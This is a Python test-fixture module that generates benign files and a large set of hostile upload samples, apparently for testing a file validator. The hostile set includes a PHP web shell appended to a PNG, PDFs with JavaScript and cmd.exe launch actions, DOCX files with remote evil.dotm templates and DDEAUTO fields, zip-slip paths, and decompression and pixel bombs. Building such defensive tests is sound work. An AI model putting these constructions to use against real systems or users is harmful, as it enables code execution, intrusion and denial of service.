"""Files as people bring them, and as others might: each made here, byte by byte. Nothing of them is anybody's."""

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
)


# ---------- good ones ----------
def jpeg(size: tuple[int, int] = (64, 48), **options) -> bytes:
    stream = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(stream, "JPEG", **options)
    return stream.getvalue()


def png(size: tuple[int, int] = (64, 48)) -> bytes:
    stream = io.BytesIO()
    Image.effect_noise(size, 60).save(stream, "PNG")
    return stream.getvalue()


def jpeg_with_preview() -> bytes:
    """A photograph as a telephone makes it: a small picture, with its own end mark, in front of the large one."""
    preview = jpeg((16, 12))
    head = b"\xff\xe1" + struct.pack(">H", len(preview) + 2) + preview
    picture = jpeg()
    return picture[:2] + head + picture[2:]


def pdf(pages: int = 1, change: Callable[[PdfWriter], None] = lambda writer: None, **options) -> bytes:
    writer = PdfWriter()
    for _n in range(pages):
        writer.add_blank_page(595, 842)
    change(writer)
    if options:
        writer.encrypt(**options)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def archive(members: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return stream.getvalue()


def word_members(**more: bytes | str) -> dict[str, bytes | str]:
    kind = CONTENT_TYPES.format(part="word/document.xml", kind="wordprocessingml.document")
    return {
        "[Content_Types].xml": kind,
        "word/document.xml": "<w:document xmlns:w='w'><w:t>笔录</w:t></w:document>",
        **more,
    }


def docx(**more: bytes | str) -> bytes:
    return archive(word_members(**more))


def xlsx(**more: bytes | str) -> bytes:
    kind = CONTENT_TYPES.format(part="xl/workbook.xml", kind="spreadsheetml.sheet")
    return archive({"[Content_Types].xml": kind, "xl/workbook.xml": "<workbook/>", **more})


def ofd(**more: bytes | str) -> bytes:
    return archive({"OFD.xml": "<OFD/>", "Doc_0/Document.xml": "<Document/>", **more})


def box(kind: bytes, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content) + 8) + kind + content


def mp4(brand: bytes = b"isom") -> bytes:
    return box(b"ftyp", brand + bytes(4)) + box(b"moov", box(b"mvhd", bytes(20))) + box(b"mdat", b"\x07" * 400)


def wav() -> bytes:
    stream = io.BytesIO()
    with wave.open(stream, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(1600))
    return stream.getvalue()


def mp3(tag: bytes = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10), frames: int = 5) -> bytes:
    """MPEG 1 layer III, 128 kbit/s, 44,100 Hz: frames of 417 bytes."""
    return tag + (b"\xff\xfb\x90\x00" + bytes(413)) * frames


def packed_pdf(packed: bytes, opens: bytes = b"/OpenAction") -> bytes:
    """A PDF 1.5 written by hand, whose object 5 lies in the compressed object stream `packed`."""
    parts = [
        b"%PDF-1.5\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + opens + b" 5 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (len(packed), packed),
    ]
    offsets = [sum(map(len, parts[:n])) for n in range(1, 5)]
    at = sum(map(len, parts))
    rows = [(0, 0, 65535), *((1, offset, 0) for offset in offsets), (2, 4, 0), (1, at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
    xref = b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, table)
    return b"".join(parts) + xref + b"startxref\n%d\n%%%%EOF" % at


OWN_TEMPLATE = {
    "word/_rels/settings.xml.rels": (
        '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="file:///C:\\a.dotm" '
        'TargetMode="External"/><Relationship Id="h" Type="http://x/hyperlink" Target="http://x" '
        'TargetMode="External"/></Relationships>'
    )
}
GOOD = {
    "照片.jpg": jpeg(),
    "照片.jpeg": jpeg(progressive=True),
    "带预览.JPG": jpeg_with_preview(),
    "截图.png": png(),
    "文书.pdf": pdf(3),
    "笔录.docx": docx(),
    "台账.xlsx": xlsx(),
    "票据.ofd": ofd(),
    "录像.mp4": mp4(),
    "手机录像.mov": mp4(b"qt  "),
    "录音.m4a": mp4(b"M4A "),
    "录音.mp3": mp3(),
    "无标签.mp3": mp3(b""),
    "录音.wav": wav(),
    "打印设置.xlsx": xlsx(**{"xl/printerSettings/printerSettings1.bin": b"x"}),
    "本机模板.docx": docx(**OWN_TEMPLATE),
    "批注.xlsx": xlsx(**{"xl/drawings/vmlDrawing1.vml": "<xml><br></xml>"}),
    "对象流.pdf": packed_pdf(zlib.compress(b"5 0 << /A (x) >>"), b"/X"),
    "加密但可读.pdf": pdf(user_password="", owner_password="x", algorithm="AES-256"),
}


# ---------- bad ones ----------
def _action(**entries: str) -> Callable[[PdfWriter], None]:
    """A PDF that does something when it is opened."""

    def change(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject(f"/{key}"): _value(value) for key, value in entries.items()})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def _value(words: str):
    return NameObject(words) if words.startswith("/") else TextStringObject(words)


def _named_tree(key: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        tree = DictionaryObject({NameObject("/Names"): ArrayObject()})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject(key): writer._add_object(tree)})

    return change


def _form(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): TextStringObject("x")})


def hidden_in_object_stream() -> bytes:
    """A script packed away where no plain search sees it."""
    return packed_pdf(zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"))


def object_stream_bomb() -> bytes:
    """Half a megabyte of objects that unpack to half a gigabyte."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"5 0 << /A (x) >> ")
    blanks = b" " * 1024**2
    return packed_pdf(packed + b"".join(packer.compress(blanks) for _n in range(500)) + packer.flush(), b"/X")


def pixel_bomb() -> bytes:
    """A PNG of a few hundred bytes that claims 60,000 × 60,000 pixels."""
    head = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )


def lying_archive() -> bytes:
    """A member that says it holds ten bytes and holds ten million."""
    whole = bytearray(docx(**{"word/media/a.dat": bytes(10_000_000)}))
    size = struct.pack("<I", 10_000_000)
    while (at := whole.find(size)) >= 0:
        whole[at : at + 4] = struct.pack("<I", 10)
    return bytes(whole)


def locked_archive() -> bytes:
    whole = bytearray(docx())
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


def relation(kind: str, target: str) -> dict[str, str]:
    told = f'Id="r" TargetMode="External" Target="{target}" Type="http://x/relationships/{kind}"'
    return {"word/_rels/settings.xml.rels": f"<Relationships><Relationship {told}/></Relationships>"}


ZIP_TAIL = archive({"a.txt": "x"})
PROGRAM = b"MZ" + bytes(60) + b"This program cannot be run in DOS mode"
BOMB = bytes(400 * 1024**2 // 8)
DDE = "<w:document xmlns:w='w'><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:document>"
HTML = b"<html><script>alert(1)</script></html>"

BAD: dict[str, bytes | Callable[[], bytes]] = {
    # by name
    "程序.exe": PROGRAM,
    "页面.html": HTML,
    "图.svg": b"<svg/>",
    "脚本.js": b"alert(1)",
    "压缩.zip": ZIP_TAIL,
    "旧文档.doc": b"\xd0\xcf\x11\xe0",
    "宏表格.xlsm": xlsx(),
    "照片.heic": mp4(b"heic"),
    "无扩展名": jpeg(),
    "照片.jpg.exe": jpeg(),
    "照片.jpg\u202egpj.exe": jpeg(),
    "文本.txt": b"x",
    "动画.gif": b"GIF89a",
    # by first bytes
    "程序改名.jpg": PROGRAM,
    "页面改名.png": HTML,
    "页面改名.pdf": HTML,
    "压缩改名.pdf": ZIP_TAIL,
    "照片改名.png": jpeg(),
    "截图改名.jpg": png(),
    "文书改名.docx": pdf(),
    "照片改名.mp4": jpeg(),
    "文本改名.mp3": b"x" * 2000,
    "空头.wav": b"RIFFxxxxWAVE",
    "前置内容.pdf": b"<script>1</script>\n" + pdf(),
    "前置内容.docx": PROGRAM + docx(),
    # pictures
    "截断.jpg": jpeg()[:-200],
    "只剩头.jpg": jpeg()[:30],
    "截断带预览.jpg": jpeg_with_preview()[:-200],
    "截断.png": png()[:-40],
    "坏校验.png": png()[:60] + b"\x00\x01" + png()[62:],
    "像素炸弹.png": pixel_bomb(),
    "尾随压缩包.jpg": jpeg() + ZIP_TAIL,
    "尾随程序.jpg": jpeg() + PROGRAM,
    "尾随网页.jpg": jpeg() + HTML,
    "尾随代码.png": png() + b"<?php system($_GET[0]); ?>",
    "尾随压缩.jpg": jpeg() + b"Rar!\x1a\x07\x01\x00",
    "注释代码.jpg": jpeg()[:2] + b"\xff\xfe\x00\x10<?php x(); ?>x" + jpeg()[2:],
    # PDF
    "脚本.pdf": pdf(change=_action(S="/JavaScript", JS="app.alert(1)")),
    "改写的名称.pdf": pdf(change=_action(S="/JavaScript", JS="x"))
    .replace(b"/JavaScript", b"/Java#53cript")
    .replace(b"/JS", b"/#4aS"),
    "打开脚本.pdf": pdf(change=_named_tree("/JavaScript")),
    "启动程序.pdf": pdf(change=_action(S="/Launch", F="cmd.exe")),
    "附件.pdf": pdf(change=lambda writer: writer.add_attachment("a.exe", PROGRAM) and None),
    "附件树.pdf": pdf(change=_named_tree("/EmbeddedFiles")),
    "表单脚本.pdf": pdf(change=_form),
    "提交表单.pdf": pdf(change=_action(S="/SubmitForm", F="http://x")),
    "对象流脚本.pdf": hidden_in_object_stream(),
    "对象流炸弹.pdf": object_stream_bomb,
    "循环页树.pdf": packed_pdf(zlib.compress(b"5 0 << >>"), b"/X").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "富媒体.pdf": pdf(change=_action(Type="/Annot", Subtype="/RichMedia", RichMediaContent="/RichMedia")),
    "密码.pdf": pdf(user_password="secret", algorithm="AES-256"),
    "无页.pdf": pdf(0),
    "垃圾.pdf": b"%PDF-1.7\n" + b"\x07" * 3000,
    "截断.pdf": pdf(3)[:200],
    "尾随压缩包.pdf": pdf() + ZIP_TAIL,
    # Office and OFD
    "宏.docx": docx(**{"word/vbaProject.bin": b"x"}),
    "控件.docx": docx(**{"word/activeX/activeX1.xml": "<a/>"}),
    "嵌入程序.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "宏类型.docx": docx(**{"[Content_Types].xml": "<Types>vnd.ms-word.document.macroEnabled.main+xml</Types>"}),
    "远程模板.docx": docx(**relation("attachedTemplate", "http://x/evil.dotm")),
    "远程模板二.docx": docx(**relation("attachedTemplate", "file://///10.0.0.1/share/evil.dotm")),
    "远程对象.docx": docx(**relation("oleObject", "http://x/a")),
    "动态数据.docx": docx(**{"word/document.xml": DDE}),
    "动态数据.xlsx": xlsx(**{"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
    "实体炸弹.docx": docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
    "实体炸弹二.docx": docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>'.encode("utf-16")}),
    "坏正文.docx": docx(**{"word/document.xml": "<w:document>"}),
    "无正文.docx": archive({"[Content_Types].xml": "<Types/>"}),
    "网页.docx": docx(**{"word/afchunk.html": HTML}),
    "上级目录.docx": docx(**{"../../etc/cron.d/x": "x"}),
    "绝对路径.docx": docx(**{"/etc/passwd": "x"}),
    "反斜杠.docx": docx(**{"word\\..\\x": "x"}),
    "压缩炸弹.docx": lambda: docx(**{f"word/media/{n}.dat": BOMB for n in range(8)}),
    "谎报大小.docx": lying_archive,
    "成员过多.docx": lambda: docx(**{f"word/media/{n}": "" for n in range(6000)}),
    "加密.docx": locked_archive(),
    "尾随.docx": docx() + PROGRAM,
    "截断.docx": docx()[:-30],
    "普通压缩包.docx": ZIP_TAIL,
    "表格改名.docx": xlsx(),
    "坏表.xlsx": docx(),
    "不是版式.ofd": docx(),
    "脚本.ofd": ofd(**{"Doc_0/a.js": "x"}),
    # recordings
    "截断.mp4": mp4()[:-10],
    "无目录.mp4": box(b"ftyp", b"isom") + box(b"mdat", b"x"),
    "次序.mp4": mp4()[12:],
    "尾随.mp4": mp4() + ZIP_TAIL,
    "过长盒.mp4": mp4() + struct.pack(">I", 1 << 30) + b"free",
    "坏帧.mp3": mp3()[:20] + bytes(2000),
    "只有标签.mp3": mp3(frames=0),
    "缺数据.wav": wav()[:36],
    "谎报长度.wav": wav()[:4] + b"\xff\xff\xff\x00" + wav()[8:],
    "尾随压缩包.wav": wav() + ZIP_TAIL,
    "尾随程序.mp3": mp3() + PROGRAM,
}
